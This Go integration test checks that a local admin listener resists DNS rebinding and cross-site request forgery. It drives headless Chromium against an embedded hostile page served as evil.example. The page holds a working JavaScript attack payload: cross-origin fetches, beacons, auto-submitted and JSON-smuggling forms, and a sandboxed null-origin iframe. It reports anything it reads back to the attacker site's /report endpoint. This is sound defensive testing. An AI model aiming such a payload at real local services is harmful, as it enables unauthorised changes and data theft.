//go:build integration

package integration_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os/exec"
	"strings"
	"testing"
	"time"
)

// browse runs Chromium on a page, with every name leading to this machine, as a
// page lets its own name do (DNS rebinding). It returns the page as it is in
// the end.
func browse(t *testing.T, page string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, "chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
		"--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage",
		"--user-data-dir="+t.TempDir(), "--host-resolver-rules=MAP * 127.0.0.1, EXCLUDE localhost, EXCLUDE 127.0.0.1",
		"--virtual-time-budget=20000", "--dump-dom", page)
	cmd.WaitDelay = 10 * time.Second
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("chromium: %v\n%s", err, out)
	}
	return string(out)
}

// hostilePage is a page that tries to write to a listener, and to read from it, in
// every way that a page has, and then says what it could read.
const hostilePage = `<!DOCTYPE html><title>a page</title><body><script>
const target = %q, read = [];
const transaction = JSON.stringify({operations: [{op: "put", key: "groups/by-page", value: btoa("{}")}]});
const mapping = JSON.stringify({domain: "evil.example.org", backends: ["http://127.0.0.1:1"]});
const types = ["text/plain", "application/x-www-form-urlencoded", "application/json", "multipart/form-data; boundary=x"];
const multipart = '--x\r\nContent-Disposition: form-data; name="name"\r\n\r\nby-page\r\n--x--\r\n';
async function attempt(path, options) {
  try {
    const answer = await fetch(target + path, options);
    const text = await answer.text();
    if (text) read.push(path + ": " + text);
  } catch (refused) {}
}
function form(path, encoding, fields) {
  const frame = document.createElement("iframe");
  frame.name = "f" + Math.random();
  const f = document.createElement("form");
  Object.assign(f, {action: target + path, method: "POST", enctype: encoding, target: frame.name});
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement("input");
    Object.assign(input, {name, value, type: "hidden"});
    f.append(input);
  }
  document.body.append(frame, f);
  f.submit();
}
async function main() {
  for (const mode of ["no-cors", "cors"]) {
    for (const type of types) {
      const headers = {"Content-Type": type};
      await attempt("/policy/objects", {method: "POST", mode, headers, body: transaction});
      await attempt("/v1/t/mapping/" + "first.example.org", {method: "POST", mode, headers, body: mapping});
      await attempt("/groups/", {method: "POST", mode, headers, body: type.startsWith("multi") ? multipart : type.endsWith("json") ? '{"name":"by-page"}' : "name=by-page"});
    }
    await attempt("/policy/objects", {method: "POST", mode, body: new Blob([transaction])});
    await attempt("/groups/", {method: "POST", mode, body: new URLSearchParams({name: "by-page"})});
    for (const path of ["/status", "/policy/objects", "/consumers", "/metrics", "/readyz", "/openapi.json"]) await attempt(path, {mode});
  }
  await attempt("/groups/kept", {method: "DELETE"});
  await attempt("/groups/by-page", {method: "PUT", headers: {"Content-Type": "application/json"}, body: "{}"});
  navigator.sendBeacon(target + "/policy/objects", transaction);
  navigator.sendBeacon(target + "/groups/", new URLSearchParams({name: "by-page"}));
  form("/groups/", "application/x-www-form-urlencoded", {name: "by-page"});
  form("/groups/", "multipart/form-data", {name: "by-page"});
  form("/policy/objects", "text/plain", {'{"operations":[{"op":"put","key":"groups/by-page","value":"e30="}],"x': '":0}'});
  const hidden = document.createElement("iframe"); // its origin is null
  hidden.sandbox = "allow-scripts allow-forms";
  hidden.srcdoc = '<script>fetch("' + target + '/groups/",{method:"POST",mode:"no-cors",body:new URLSearchParams({name:"by-page"})})<' + '/script>';
  document.body.append(hidden);
  await new Promise(done => setTimeout(done, 3000));
  await fetch("/report", {method: "POST", body: JSON.stringify({target, read, done: true})});
}
main();
</script>`

type report struct {
	Target string
	Read   []string
	Done   bool
}

// hostileSite serves the page to a browser and returns what it reports.
func hostileSite(t *testing.T) (site *url.URL, reports <-chan report) {
	said := make(chan report, 10)
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/report" {
			var one report
			if err := json.NewDecoder(r.Body).Decode(&one); err != nil {
				t.Error(err)
			}
			said <- one
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, hostilePage, r.URL.Query().Get("target"))
	}))
	t.Cleanup(server.Close)
	site, err := url.Parse(server.URL)
	if err != nil {
		t.Fatal(err)
	}
	site.Host = net.JoinHostPort("evil.example", site.Port())
	return site, said
}

// TestNoPageGetsThroughToTheAdminListener has Chromium show a hostile page while
// a lictor without a token runs on the same machine.
func TestNoPageGetsThroughToTheAdminListener(t *testing.T) {
	together(t)
	p := startLictor(t, lictorConfig{Rest: "policy {\n  store = \"memory\"\n}\n"})
	p.Ready(t)
	p.ask(t, "POST", "/groups", "name=kept")
	p.ask(t, "PUT", "/v1/t/mapping", `{"domain":"first.example.org","backends":["http://127.0.0.1:1"]}`)
	before := p.ask(t, "GET", "/policy/objects", "").text
	_, port, err := net.SplitHostPort(p.Admin)
	if err != nil {
		t.Fatal(err)
	}
	site, reports := hostileSite(t)
	for _, host := range []string{"127.0.0.1", "localhost", "evil.example"} {
		t.Run("by "+host, func(t *testing.T) {
			target := "http://" + host + ":" + port
			browse(t, site.String()+"/?target="+url.QueryEscape(target))
			select {
			case r := <-reports:
				if r.Target != target || !r.Done || len(r.Read) > 0 {
					t.Errorf("the page read %q", r.Read)
				}
			case <-time.After(time.Minute):
				t.Fatal("the page did not come to its end")
			}
			if after := p.ask(t, "GET", "/policy/objects", "").text; after != before {
				t.Errorf("the page changed the policy to %s", after)
			}
		})
	}
	// A rebound name is of the page's own origin: what it opens it can read.
	t.Run("as its own origin", func(t *testing.T) {
		for _, path := range []string{"/status", "/policy/objects", "/readyz", "/consumers"} {
			shown := browse(t, "http://evil.example:"+port+path)
			if !strings.Contains(shown, "forbidden_host") || strings.Contains(shown, "first.example.org") || strings.Contains(shown, "resolvers") {
				t.Errorf("%s shows %s", path, shown)
			}
		}
	})
}
